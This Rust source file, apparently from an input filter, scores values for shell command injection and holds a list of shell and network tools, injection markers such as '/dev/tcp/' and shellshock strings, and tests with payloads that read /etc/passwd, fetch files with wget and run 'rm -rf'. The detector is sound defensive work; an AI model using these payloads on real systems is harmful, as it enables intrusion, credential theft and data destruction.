//! How much a value reads like a command for a shell, or like a call that runs one.
//!
//! A command counts where a shell would begin one: at the start, behind `;`, `|`, `&`, a line break, in
//! backticks or `$(`. Names that are words of English too count only with an end, an option or a path
//! behind them. One pass over the bytes.

use super::phrases::{Found, Sort, Table};

const COMMANDS: [&[u8]; 62] = [
    b"bash",
    b"sh",
    b"dash",
    b"zsh",
    b"ksh",
    b"whoami",
    b"uname",
    b"netstat",
    b"ifconfig",
    b"ipconfig",
    b"wget",
    b"curl",
    b"nslookup",
    b"ping",
    b"nc",
    b"ncat",
    b"cmd",
    b"powershell",
    b"perl",
    b"python",
    b"python3",
    b"chmod",
    b"systeminfo",
    b"tasklist",
    b"certutil",
    b"bitsadmin",
    b"ls",
    b"cat",
    b"sleep",
    b"rm",
    b"echo",
    b"tftp",
    b"busybox",
    b"printf",
    b"pwd",
    b"crontab",
    b"base64",
    b"traceroute",
    b"xp_cmdshell",
    b"wmic",
    b"regsvr32",
    b"rundll32",
    b"mshta",
    b"ftpget",
    b"chown",
    b"passwd",
    b"useradd",
    b"adduser",
    b"ps",
    b"lsb_release",
    b"printenv",
    b"telnet",
    b"socat",
    b"openssl",
    b"md5sum",
    b"awk",
    b"sed",
    b"phpinfo",
    b"tcpdump",
    b"iptables",
    b"sudo",
    b"ssh",
];

/// Names that are words too.
const WORDS: [&[u8]; 32] = [
    b"id", b"dir", b"date", b"time", b"find", b"more", b"type", b"set", b"host", b"test", b"true",
    b"false", b"sort", b"mail", b"env", b"who", b"w", b"head", b"tail", b"kill", b"net", b"reg",
    b"dig", b"cp", b"mv", b"php", b"ruby", b"node", b"cd", b"ver", b"touch", b"timeout",
];

/// Texts that only commands hold.
pub(super) const PHRASES: Table = &[
    (b"${ifs}", 6),
    (b"$ifs", 6),
    (b"/dev/tcp/", 6),
    (b"() {", 6),
    (b"(){", 6),
    (b">/dev/null", 4),
    (b"2>&1", 4),
    (b"<!--#exec", 9),
    (b"<!--#include", 6),
    (b"<!--#echo", 6),
    (b"shell_exec(", 5),
    (b"passthru(", 5),
    (b"proc_open(", 5),
    (b"popen(", 4),
    (b"pcntl_exec", 5),
    (b"runtime.getruntime", 6),
    (b"processbuilder", 5),
    (b"os.system", 5),
    (b"subprocess.", 5),
    (b"child_process", 5),
    (b"cmd.exe", 5),
    (b"cmd /c", 6),
    (b"powershell -", 6),
    (b"-e /bin/", 6),
    (b"/bin/sh", 5),
    (b"/bin/bash", 5),
    (b"chmod 777", 5),
    (b"chmod +x", 5),
    (b"| sh", 4),
    (b"rm -rf", 5),
];

/// Points of a value in lower case.
pub fn points(value: &[u8], found: &Found) -> u32 {
    let mut points = found.points(Sort::Shell);
    let mut best = started(value);
    let mut ticks = 0;
    for (at, byte) in value.iter().enumerate() {
        let rest = &value[at + 1..];
        let worth = match byte {
            b';' | b'|' | b'\n' => command(rest, false),
            b'&' => command(rest, at > 0 && rest.first() != Some(&b'&')),
            b'`' => {
                ticks += 1;
                if ticks % 2 == 1 { quoted(rest) } else { 0 }
            }
            b'(' if matches!(
                at.checked_sub(1).and_then(|at| value.get(at)),
                Some(b'$' | b'<' | b'>')
            ) =>
            {
                1 + command(rest, false)
            }
            b'(' if called(&value[..at]) => 3 + command(rest, false),
            b'\'' | b'"' if rest.starts_with(b"|") || rest.starts_with(b";") => 0,
            _ => 0,
        };
        best = best.max(worth);
    }
    points += best;
    points
}

/// A value that is a command line by itself.
fn started(value: &[u8]) -> u32 {
    let value = value.trim_ascii_start();
    let value = value.strip_prefix(b"+").unwrap_or(value);
    let value = value.strip_prefix(b"'").or(value.strip_prefix(b"\"")).unwrap_or(value);
    let (path, name, rest) = split(value);
    let argued = matches!(rest, [b' ', b'-' | b'/' | b'~' | b'\\', ..]) || drive(rest);
    let ended = matches!(rest.trim_ascii(), [b'|' | b';' | b'`']);
    if path.ends_with(b"bin/")
        && path.len() <= 16
        && known(name)
        && matches!(rest.first(), None | Some(b' ' | b'|' | b';' | b'&'))
    {
        6
    } else if path.is_empty() && known(name) && (argued || ended) {
        5
    } else {
        0
    }
}

/// ` c:` and `+c:`: a drive as an argument.
fn drive(rest: &[u8]) -> bool {
    matches!(rest, [b' ' | b'+', b'a'..=b'z', b':', ..])
}

fn known(name: &[u8]) -> bool {
    COMMANDS.contains(&name) || WORDS.contains(&name)
}

/// What a command behind a mark that begins one is worth; `weak`: the mark is common in prose.
fn command(rest: &[u8], weak: bool) -> u32 {
    let skipped = rest
        .iter()
        .take(16)
        .take_while(|byte| {
            matches!(byte, b' ' | b'+' | b'\'' | b'"' | b'(' | b'|' | b'&' | b'{' | b'\t' | b'$')
        })
        .count();
    let (path, name, after) = split(&rest[skipped..]);
    let ended = matches!(
        after.trim_ascii_start().first(),
        None | Some(b'|' | b';' | b'&' | b'`' | b')' | b'\'' | b'"' | b'#' | b'\n' | b'<' | b'>')
    );
    let argued =
        matches!(after, [b' ' | b'+', b'-' | b'/' | b'$' | b'.' | b'\\' | b'0'..=b'9', ..])
            || drive(after);
    let pathed = path.ends_with(b"bin/");
    if COMMANDS.contains(&name)
        && (ended
            || pathed
            || argued
            || matches!(after.first(), Some(b' ' | b'+' | b'<' | b'>' | b'$')))
    {
        if weak && !pathed && !argued && name.len() < 6 { 4 } else { 6 }
    } else if WORDS.contains(&name) && (pathed || argued || ended) {
        if weak && !pathed && !argued { 2 } else { 5 }
    } else {
        0
    }
}

fn quoted(rest: &[u8]) -> u32 {
    match memchr::memchr(b'`', rest) {
        Some(0) | None => 0,
        Some(end) => 3 + command(&rest[..end], false).min(4),
    }
}

/// Whether what stands before a bracket is a function that runs commands.
fn called(before: &[u8]) -> bool {
    [&b"system"[..], b"exec", b"popen", b"passthru", b"spawn"]
        .iter()
        .any(|name| before.ends_with(name))
}

/// The path, the last name of it without `.exe`, and the rest.
fn split(text: &[u8]) -> (&[u8], &[u8], &[u8]) {
    let part =
        |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'_' | b'.' | b'-');
    let end = text.iter().take(128).position(|byte| !part(byte)).unwrap_or(text.len().min(128));
    let (word, rest) = text.split_at(end);
    let cut = word.iter().rposition(|byte| *byte == b'/').map_or(0, |at| at + 1);
    let (path, name) = word.split_at(cut);
    (path, name.strip_suffix(b".exe").unwrap_or(name), rest)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn points(value: &[u8]) -> u32 {
        super::points(value, &Found::within(value))
    }

    #[test]
    fn commands_score_and_words_do_not() {
        for value in [
            ";id",
            "a|id;",
            "|/usr/bin/id",
            "`id`",
            "$(nslookup x)",
            "a && cat /etc/passwd",
            "& ping -i 30 127.0.0.1 &",
            "; /bin/sleep 31 ;",
            "/usr/bin/id",
            "cat /etc/passwd",
            "ping.exe -n 31 127.0.0.1",
            "x;wget http://192.0.2.1/a",
            "() { :; }; /bin/id",
            ";system('cat /etc/passwd')",
            "|dir c:",
            "a\nwhoami",
            "cd /tmp;rm -rf *;wget x",
            "`true`",
            "<!--#exec cmd=\"/bin/cat /etc/passwd\"-->",
            "1;sleep${ifs}5",
        ] {
            assert!(points(value.as_bytes()) >= 5, "{value}: {}", points(value.as_bytes()));
        }
        for value in [
            "id",
            "cats & dogs",
            "search & find",
            "rock; paper; scissors",
            "a|b",
            "this;that",
            "time",
            "ping",
            "true",
            "cat",
            "more or less",
            "ls",
            "fish & more",
            "test; drive",
            "date of birth",
            "/cgi-bin/",
            "sed nisi",
        ] {
            assert!(points(value.as_bytes()) < 5, "{value}: {}", points(value.as_bytes()));
        }
    }
}
